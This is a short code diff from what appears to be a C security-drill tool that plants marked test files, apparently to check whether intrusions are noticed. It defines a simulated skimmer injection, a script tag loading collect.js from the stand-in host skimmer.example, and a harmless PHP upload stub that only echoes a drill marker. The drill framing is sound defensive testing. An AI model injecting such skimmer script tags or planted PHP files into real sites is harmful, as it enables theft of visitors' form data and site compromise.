@@ -20,7 +20,7 @@
 
 #define MARK         "hinomi drill: harmless"
 #define SKIMMER_LINE "\n<script src=\"https://skimmer.example/collect.js\"></script><!-- " MARK " -->\n"
-#define UPLOAD_TEXT  "<?php /* " MARK " */\n"
+#define UPLOAD_TEXT  "<?php echo '" MARK "';\n"
 #define ARM_WAIT_MS  300000 /* the baseline of a large copy */
 
 /* One file that is planted, and what became of it. */
